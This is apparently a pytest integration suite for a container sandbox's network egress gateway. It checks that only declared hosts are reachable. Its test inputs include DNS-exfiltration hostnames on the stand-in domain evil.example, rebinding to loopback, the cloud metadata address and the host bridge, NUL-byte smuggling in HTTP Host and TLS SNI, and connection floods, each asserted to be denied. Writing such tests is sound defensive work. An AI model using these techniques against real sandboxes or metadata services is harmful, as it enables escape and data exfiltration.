"""Network grants against an "outside world" the test builds itself: servers
in containers on a network the test created, with its own DNS server as the
gateway's upstream. Nothing is aimed at any address the test did not create
(the host's own addresses, which the sandbox must not reach, and names that
the test's DNS points at loopback or 169.254.169.254, which the gateway must
refuse before connecting)."""

from __future__ import annotations

import contextlib
import secrets
import shutil
import socket
import subprocess
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from mppoci.egress.network import OWNER_LABEL, host_addresses
from tests.conftest import MPPOCI, run_mppoci
from tests.registry_fixtures import make_cert

pytestmark = pytest.mark.integration
ASSETS = Path(__file__).resolve().parents[1] / "assets" / "world"

MANIFEST = """\
schemaVersion: 1
name: acme/egress
version: 1.0.0
description: Talks to declared services only.
authors: [Ada]
license: MIT
runtime: python3
entrypoint: ["python3", "/pkg/tool.py"]
protocol: cli
tools: [{name: t, description: t, annotations: {readOnlyHint: true}}]
permissions:
  network:
    egress:
      - {host: api.test, port: 8080, why: the HTTP API, address: "SUBNET"}
      - {host: "*.svc.test", port: 8443, why: HTTPS services, address: "SUBNET"}
      - {host: db.test, port: 5432, why: a database, address: "SUBNET"}
  resources: {timeout: 60s}
"""
# Declared without an address: each name resolves (through the test's DNS or
# Docker's) to an address the gateway must refuse, whatever the name.
REBIND = """\
schemaVersion: 1
name: acme/rebind
version: 1.0.0
description: Declares names that its publisher points at forbidden addresses.
authors: [Ada]
license: MIT
runtime: python3
entrypoint: ["python3", "/pkg/tool.py"]
protocol: cli
tools: [{name: t, description: t, annotations: {readOnlyHint: true}}]
permissions:
  network:
    egress:
      - {host: loop.test, port: 8081, why: resolves to 127.0.0.1}
      - {host: meta.test, port: 80, why: resolves to the cloud metadata address}
      - {host: hostbr.test, port: 8082, why: resolves to the host's bridge address}
      - {host: api.test, port: 8080, why: resolves to another container's private address}
  resources: {timeout: 60s}
"""
# A network shared by every test of this module: tests on it may have run.
SERVER_ROLES = [
    ("http", "8080", "api.test"),
    ("https", "8443", "secure.svc.test"),
    ("echo", "5432", "db.test"),
    ("http", "8080", "other.test"),
]


@pytest.fixture(scope="module")
def python3_runtime() -> None:
    """The gateway and the tool run on the python3 runtime (built once, ~1 min)."""
    inspect = ["docker", "image", "inspect", "mppoci-runtime/python3:latest"]
    if subprocess.run(inspect, capture_output=True, check=False).returncode != 0:
        subprocess.run(
            [str(MPPOCI), "runtime", "build", "python3"], check=True, capture_output=True
        )


@pytest.fixture(scope="module")
def world(
    docker_client: Any, python3_runtime: None, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[dict[str, str]]:
    folder = tmp_path_factory.mktemp("world")
    folder.chmod(0o755)
    ca = make_cert("mppoci test CA", is_ca=True)
    server = make_cert(
        "secure.svc.test", signer=ca, dns_sans=("secure.svc.test",), server_auth=True
    )
    (folder / "ca.pem").write_bytes(ca.cert_pem())
    (folder / "server.pem").write_bytes(server.cert_pem())
    (folder / "server-key.pem").write_bytes(server.key_pem())
    shutil.copy(ASSETS / "servers.py", folder / "servers.py")
    for f in folder.iterdir():
        f.chmod(0o644)
    name = f"mppoci-test-world-{secrets.token_hex(4)}"
    network = docker_client.networks.create(name, driver="bridge")
    network.reload()
    bridge_ip = network.attrs["IPAM"]["Config"][0]["Gateway"]
    # What the test's DNS answers: names a hostile publisher would point at
    # places the gateway must never connect to.
    rebinds = ["loop.test=127.0.0.1", "meta.test=169.254.169.254", f"hostbr.test={bridge_ip}"]
    containers = []
    try:
        roles = [*SERVER_ROLES, ("dns", "53", "dns.test")]
        for role, port, alias in roles:
            c = docker_client.containers.run(
                "mppoci-runtime/python3:latest",
                [
                    "python3",
                    "-u",
                    "/world/servers.py",
                    role,
                    port,
                    *(rebinds if role == "dns" else []),
                ],
                user="0:0" if role == "dns" else "65534:65534",
                detach=True,
                mounts=[
                    {"Type": "bind", "Source": str(folder), "Target": "/world", "ReadOnly": True}
                ],
                network=name,
                labels={"dev.mppoci.test": "world"},
            )
            docker_client.networks.get(name).disconnect(c)
            docker_client.networks.get(name).connect(c, aliases=[alias])
            containers.append(c)
        deadline = time.monotonic() + 30
        for c in containers:
            while b"ready" not in c.logs() and time.monotonic() < deadline:
                time.sleep(0.1)
        ips = {}
        network.reload()
        for c in containers:
            c.reload()
            ips[c.id] = c.attrs["NetworkSettings"]["Networks"][name]["IPAddress"]
        yield {
            "network": name,
            "api_ip": ips[containers[0].id],
            "dns_ip": ips[containers[4].id],
            "host_ip": bridge_ip,
            "subnet": network.attrs["IPAM"]["Config"][0]["Subnet"],
            "server_ips": ",".join(ips[c.id] for c in containers[:4]),
            "ca": str(folder / "ca.pem"),
            "dns_container": containers[4].id,
        }
    finally:
        for c in containers:
            with contextlib.suppress(Exception):
                c.remove(force=True)
        with contextlib.suppress(Exception):
            network.remove()


# The owner label (host:pid) of every `mppoci run` this module started: the
# containers and networks of OUR runs, never another engineer's on the engine.
_OWNERS: set[str] = set()


def _start(home: Path, *args: str, env: dict[str, str]) -> subprocess.Popen[str]:
    """`mppoci run ...` started, its owner label recorded (see run_mppoci)."""
    import os

    proc = subprocess.Popen(
        [str(MPPOCI), *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        stdin=subprocess.DEVNULL,
        text=True,
        env={**os.environ, "MPPOCI_HOME": str(home), "MPPOCI_PASSWORD": "pw", **env},
    )
    _OWNERS.add(f"{socket.gethostname()}:{proc.pid}")
    return proc


def _finish(proc: subprocess.Popen[str]) -> subprocess.CompletedProcess[str]:
    out, err = proc.communicate(timeout=600)
    return subprocess.CompletedProcess(proc.args, proc.returncode, out, err)


def _ours(docker_client: Any, kind: str, owners: set[str]) -> list[Any]:
    """The containers (running or not) or networks labelled with one of ``owners``."""
    found = []
    for owner in sorted(owners):
        label = {"label": f"{OWNER_LABEL}={owner}"}
        if kind == "network":
            found += docker_client.api.networks(filters=label)
        else:
            found += docker_client.api.containers(all=True, filters=label)
    return found


_mppoci = run_mppoci


def _install(root: Path, world: dict[str, str], manifest: str, name: str) -> Path:
    home, folder = root / "home", root / "pkg"
    folder.mkdir()
    (folder / "mpp.yaml").write_text(manifest.replace("SUBNET", world["subnet"]))
    shutil.copy(ASSETS / "tool.py", folder / "tool.py")
    shutil.copy(world["ca"], folder / "ca.pem")
    for args in (
        ("build", str(folder)),
        ("key", "generate", "--output-key-prefix", str(root / "k")),
        ("trust", "add", str(root / "k.pub"), "--publisher", "acme"),
        ("sign", name, "--key", str(root / "k.key")),
        ("approve", name, "--yes"),
    ):
        result = _mppoci(home, *args)
        assert result.returncode == 0, (args, result.stderr)
    return home


@pytest.fixture(scope="module")
def package(world: dict[str, str], tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _install(tmp_path_factory.mktemp("egress"), world, MANIFEST, "acme/egress")


@pytest.fixture(scope="module")
def rebind_package(world: dict[str, str], tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _install(tmp_path_factory.mktemp("rebind"), world, REBIND, "acme/rebind")


def _run_tool(
    home: Path, world: dict[str, str], name: str, args: list[str]
) -> tuple[dict[str, str], str]:
    result = _finish(_start(home, "run", name, "--", *args, env=_world_env(world)))
    assert result.returncode == 0, result.stderr
    outcomes = {}
    for line in result.stdout.splitlines():
        label, _, rest = line.partition(": ")
        outcomes[label] = rest
    return outcomes, result.stderr


def _world_env(world: dict[str, str]) -> dict[str, str]:
    return {"MPPOCI_EGRESS_NETWORK": world["network"], "MPPOCI_EGRESS_DNS": world["dns_ip"]}


def _run(home: Path, world: dict[str, str], token: str) -> dict[str, str]:
    args = [
        f"api_ip={world['api_ip']}",
        f"host_ip={world['host_ip']}",
        f"exfil=exfil-{token}.evil.example",
        f"exfil2=exfil2-{token}.evil.example",
        f"exfil3=exfil3-{token}.evil.example",
    ]
    return _run_tool(home, world, "acme/egress", args)[0]


def _network_records(home: Path) -> list[dict[str, Any]]:
    import json

    shown = _mppoci(home, "audit", "show", "--event", "network", "--json")
    assert shown.returncode == 0, shown.stderr
    return [r["data"] | {"event": r["event"]} for r in json.loads(shown.stdout)]


def test_declared_destinations_work_and_everything_else_is_denied(
    package: Path, world: dict[str, str], docker_client: Any
) -> None:
    token = secrets.token_hex(6)
    got = _run(package, world, token)
    assert got["declared http"].startswith("OK hello from http api.test"), got
    # The certificate of secure.test verified against the test's CA: TLS was end to end.
    assert got["declared https"].startswith("OK hello from https secure.svc.test"), got
    assert got["declared tcp"] == "OK ping", got
    for attempt in (
        "other host",
        "direct ip",
        "docker host",
        "dns exfiltration",
        "dns via docker's resolver",
        "dns to the world's server",
    ):
        # DENIED: no route, unreachable, timed out or refused by name. A
        # "connection refused" would be REACHED: something answered.
        assert got[attempt].startswith("DENIED"), (attempt, got)
    # api.test resolves to 127.0.0.1 (the relay) and nothing listens on 9999 in
    # the sandbox's own loopback-only namespace: the kernel of that namespace
    # refuses, nothing outside it is reached.
    assert got["other port"].startswith(("DENIED", "REACHED ConnectionRefusedError")), got
    # The world's DNS server (the gateway's upstream) never saw the tool's names.
    dns_log = docker_client.containers.get(world["dns_container"]).logs().decode()
    assert token.encode().hex() not in dns_log.replace("query ", "")
    for part in ("exfil", "exfil2", "exfil3"):
        assert f"{part}-{token}".encode().hex() not in dns_log


def test_every_attempt_reaching_the_gateway_is_audited(
    package: Path, world: dict[str, str]
) -> None:
    import json

    _run(package, world, secrets.token_hex(6))
    shown = _mppoci(package, "audit", "show", "--event", "network", "--json")
    records = json.loads(shown.stdout)
    # Records of single attempts; a flood's counts (`network.suppressed`) or a
    # stopped relay (`network.stopped`) left by another test of this home carry
    # no host.
    decisions = {(r["data"]["host"], r["data"]["decision"]) for r in records if "host" in r["data"]}
    assert ("api.test", "allowed") in decisions
    assert ("secure.svc.test", "allowed") in decisions
    assert ("other.test", "refused") in decisions  # its DNS query was refused


def test_no_network_or_container_is_left_behind(
    package: Path, world: dict[str, str], docker_client: Any
) -> None:
    before = set(_OWNERS)
    with ThreadPoolExecutor(max_workers=4) as pool:
        list(pool.map(lambda _: _run(package, world, secrets.token_hex(4)), range(4)))
    mine = _OWNERS - before  # these four runs only, not other runs on the engine
    assert len(mine) == 4
    assert _ours(docker_client, "network", mine) == []
    assert _ours(docker_client, "container", mine) == []


class _Listener:
    """A TCP listener on every host address (dual-stack ``::``, so 0.0.0.0 too)
    that counts what it accepts."""

    def __init__(self) -> None:
        import socket
        import threading

        self.sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        self.sock.bind(("::", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.accepted: list[Any] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, peer = self.sock.accept()
            except OSError:
                return
            self.accepted.append(peer)
            conn.close()

    def close(self) -> None:
        self.sock.close()


def _host_side_addresses(docker_client: Any) -> list[str]:
    """Every address the sandbox could name to reach this host: each address
    of each host interface (IPv4 and IPv6, docker0 and every bridge among
    them) and the gateway of every Docker network."""
    found = set(host_addresses())
    for net in docker_client.api.networks():
        for config in (net.get("IPAM") or {}).get("Config") or []:
            if config.get("Gateway"):
                found.add(config["Gateway"].split("/")[0])
    found |= {"127.0.0.1", "::1", "172.17.0.1"}
    return sorted(found)


def test_sandbox_with_egress_cannot_reach_a_host_listener_through_any_host_address(
    package: Path, world: dict[str, str], docker_client: Any
) -> None:
    listener = _Listener()
    try:
        addresses = _host_side_addresses(docker_client)
        assert world["host_ip"] in addresses
        probes = [
            f"[{a}]:{listener.port}" if ":" in a else f"{a}:{listener.port}" for a in addresses
        ]
        # Servers on the outside network, by IP: other containers are unreachable too.
        probes += [f"{ip}:8080" for ip in world["server_ips"].split(",")]
        got, _ = _run_tool(package, world, "acme/egress", ["probe=" + ",".join(probes)])
    finally:
        listener.close()
    assert listener.accepted == [], listener.accepted
    assert len(got) == len(probes), got
    for probe in probes:
        outcome = got[f"probe {probe}"]
        if probe.startswith(("127.0.0.1:", "[::1]:")):
            # The sandbox's own loopback (the relay's namespace) has no listener
            # on that port: its kernel refuses. The host's loopback would have
            # accepted (the listener is on every address) and it accepted nothing.
            assert outcome.startswith(("DENIED", "REACHED ConnectionRefusedError")), outcome
        else:
            assert outcome.startswith("DENIED"), (probe, outcome)
            # No route (IPv4), no source address to send from (IPv6: the
            # namespace holds ::1 only), a link-local address with no interface.
            no_path = ("unreachable", "Cannot assign requested address", "Invalid argument")
            assert any(text in outcome for text in no_path), (probe, outcome)


def test_declared_names_that_resolve_to_forbidden_addresses_are_refused_by_the_gateway(
    rebind_package: Path, world: dict[str, str], docker_client: Any
) -> None:
    listener = _Listener()
    try:
        sends = "loop.test:8081,meta.test:80,hostbr.test:8082,api.test:8080"
        got, _ = _run_tool(rebind_package, world, "acme/rebind", ["send=" + sends])
    finally:
        listener.close()
    for item in sends.split(","):
        assert got[f"send {item}"].startswith("DENIED"), got
    records = [r for r in _network_records(rebind_package) if r["event"] == "network.tcp"]
    classes = {
        r["host"]: (r["decision"], r.get("address_class"), r.get("address")) for r in records
    }
    assert classes["loop.test"] == ("denied", "loopback", "127.0.0.1"), records
    assert classes["meta.test"] == ("denied", "link-local", "169.254.169.254"), records
    assert classes["hostbr.test"] == ("denied", "host", world["host_ip"]), records
    assert classes["api.test"] == ("denied", "private", world["api_ip"]), records
    assert listener.accepted == []


def test_a_destination_declared_with_its_private_address_reaches_its_private_server(
    package: Path, world: dict[str, str]
) -> None:
    got = _run(package, world, secrets.token_hex(6))
    assert got["declared tcp"] == "OK ping", got
    records = [r for r in _network_records(package) if r["event"] == "network.tcp"]
    allowed = {(r["host"], r.get("address")) for r in records if r["decision"] == "allowed"}
    assert ("api.test", world["api_ip"]) in allowed, records


def _inspect_during_run(
    docker_client: Any, home: Path, world: dict[str, str]
) -> dict[str, dict[str, Any]]:
    """The inspect data of the run's containers by role (tool, egress-relay,
    egress-gateway), taken while the tool waits."""
    import threading

    seen: dict[str, dict[str, Any]] = {}
    done = threading.Event()
    proc = _start(home, "run", "acme/egress", "--", "wait=3", env=_world_env(world))
    owner = f"{socket.gethostname()}:{proc.pid}"

    def watch() -> None:
        # Only this run's containers (its owner label), whatever else runs.
        while not done.is_set() and len(seen) < 3:
            for c in _ours(docker_client, "container", {owner}):
                labels = c.get("Labels") or {}
                role = labels.get("dev.mppoci.role") or (
                    "tool" if labels.get("dev.mppoci.package") == "acme/egress" else ""
                )
                if role and c.get("State") == "running":
                    with contextlib.suppress(Exception):
                        seen.setdefault(role, docker_client.api.inspect_container(c["Id"]))
            time.sleep(0.05)

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    try:
        result = _finish(proc)
        assert result.returncode == 0, result.stderr
    finally:
        done.set()
        watcher.join()
    assert set(seen) == {"tool", "egress-relay", "egress-gateway"}, list(seen)
    return seen


def test_the_gateway_runs_on_the_pinned_image_not_on_whatever_the_tag_names(
    package: Path, world: dict[str, str], docker_client: Any
) -> None:
    from mppoci.egress.pin import PIN_FILE

    # An image of our own with the python3 runtime's files and another ID (a
    # label changes the config, so the ID): pinned, it must be what runs, while
    # the shared tag still names the other image. No shared tag is touched.
    tagged = docker_client.images.get("mppoci-runtime/python3:latest").id
    scratch = docker_client.containers.create("mppoci-runtime/python3:latest", ["true"])
    try:
        own = scratch.commit(changes=["LABEL dev.mppoci.test=gateway-pin"]).id
    finally:
        scratch.remove(force=True)
    pin_file = package / "data" / PIN_FILE
    before = pin_file.read_bytes() if pin_file.exists() else None
    try:
        assert own != tagged
        pin_file.parent.mkdir(parents=True, exist_ok=True)
        pin_file.write_text(own + "\n")
        seen = _inspect_during_run(docker_client, package, world)
        assert seen["egress-gateway"]["Image"] == own
        assert seen["egress-relay"]["Image"] == own
    finally:
        if before is None:
            pin_file.unlink()
        else:
            pin_file.write_bytes(before)
        with contextlib.suppress(Exception):
            docker_client.images.remove(own, noprune=False)


def test_the_tool_shares_only_the_relays_loopback_and_never_sees_the_gateway_socket(
    package: Path, world: dict[str, str], docker_client: Any
) -> None:
    seen = _inspect_during_run(docker_client, package, world)
    tool, relay, gateway = seen["tool"], seen["egress-relay"], seen["egress-gateway"]
    assert tool["HostConfig"]["NetworkMode"] == f"container:{relay['Id']}"
    assert relay["HostConfig"]["NetworkMode"] == "none"
    assert relay["NetworkSettings"]["Networks"].get("none") is not None
    # The folder with the gateway's socket is bound into relay and gateway only.
    sock_sources = {m["Source"] for m in gateway["Mounts"] if m["Destination"] == "/sock"}
    assert len(sock_sources) == 1
    assert {m["Source"] for m in relay["Mounts"] if m["Destination"] == "/sock"} == sock_sources
    tool_sources = {m["Source"] for m in tool["Mounts"]}
    (folder,) = sock_sources
    assert not any(
        s == folder or s.startswith(folder.rsplit("/", 1)[0] + "/sock") for s in tool_sources
    )
    assert not any(m["Destination"] == "/sock" for m in tool["Mounts"])
    # The relay is locked down like the gateway.
    for c in (relay, gateway):
        host = c["HostConfig"]
        assert host["ReadonlyRootfs"] is True
        assert host["CapDrop"] == ["ALL"]
        assert "no-new-privileges:true" in host["SecurityOpt"]
        assert c["Config"]["User"] == "65534:65534"
        assert host["PidsLimit"] == 64 and host["Memory"] == 64 * 1024 * 1024


def test_a_flood_of_dns_queries_and_connections_ends_and_is_audited_as_counts(
    package: Path, world: dict[str, str]
) -> None:
    from mppoci.egress.network import MAX_RECORDED

    before = len(_network_records(package))
    got, _ = _run_tool(package, world, "acme/egress", ["flood=3000"])
    assert got["flood"].startswith("OK"), got
    records = _network_records(package)[before:]
    summaries = [r for r in records if r["event"] == "network.suppressed"]
    assert len(summaries) == 1, summaries
    assert len(records) <= MAX_RECORDED + 1
    # 3000 queries and 3000 connections in all: what is not a record is counted.
    counted = summaries[0]["total"]
    assert len(records) - 1 + counted >= 6000 - 400, (len(records), counted)


def _client_hello(name: bytes) -> bytes:
    from tests.egress.test_gateway_attacks import client_hello

    return client_hello(name)


def test_a_nul_in_the_host_or_sni_does_not_reach_or_resolve_a_name_outside_the_wildcard(
    package: Path, world: dict[str, str], docker_client: Any
) -> None:
    """The red team's break: ``Host: other.test\\0.svc.test`` matched
    ``*.svc.test`` as text while getaddrinfo stopped at the NUL and dialled
    other.test (inside the declared subnet); an SNI of
    ``exfil-<hex>.evil.example\\0.svc.test`` carried data to the world's DNS.
    Both must be refused by name, before any lookup, and audited."""
    token = secrets.token_hex(6)
    sends = [
        b"GET / HTTP/1.1\r\nHost: other.test\x00.svc.test\r\n\r\n",
        _client_hello(f"exfil-{token}.evil.example".encode() + b"\x00.svc.test"),
        b"GET / HTTP/1.1\r\nHost: " + world["api_ip"].encode() + b"\x00.svc.test\r\n\r\n",
    ]
    before = len(_network_records(package))
    got, _ = _run_tool(
        package, world, "acme/egress", ["raw=" + ",".join(f"8443:{s.hex()}" for s in sends)]
    )
    for i in range(len(sends)):
        assert got[f"raw {i}"].startswith("DENIED"), got
    records = [r for r in _network_records(package)[before:] if r["event"] == "network.tcp"]
    assert len(records) == len(sends), records
    for record in records:
        assert record["decision"] == "denied", record
        assert record["reason"] == "destination not recognisable", record
        assert "address" not in record, record  # never resolved, never dialled
    dns_log = docker_client.containers.get(world["dns_container"]).logs().decode()
    assert f"exfil-{token}".encode().hex() not in dns_log


def test_idle_connections_past_the_cap_are_refused_and_do_not_kill_the_relay(
    package: Path, world: dict[str, str]
) -> None:
    """The red team held thousands of idle connections to the relay until it
    was OOM-killed (64 MiB). Past the cap (256 open at once) each is refused
    at once and audited; the relay and the gateway live to the end of the run
    (no network.stopped record)."""
    from mppoci.egress.gateway import MAX_CONNECTIONS

    extra = 40
    before = len(_network_records(package))
    got, _ = _run_tool(package, world, "acme/egress", [f"idle={MAX_CONNECTIONS + extra}"])
    records = _network_records(package)[before:]
    refused = [r for r in records if r.get("reason") == "too many connections"]
    assert len(refused) == extra, records[-5:]
    # At least those were closed at once (after the module's flood test the
    # world's echo server may also close some it carried: not the relay's doing).
    assert got["idle"].startswith("OK ") and int(got["idle"].split()[1]) >= extra, got
    assert not [r for r in records if r["event"] == "network.stopped"], records[-5:]
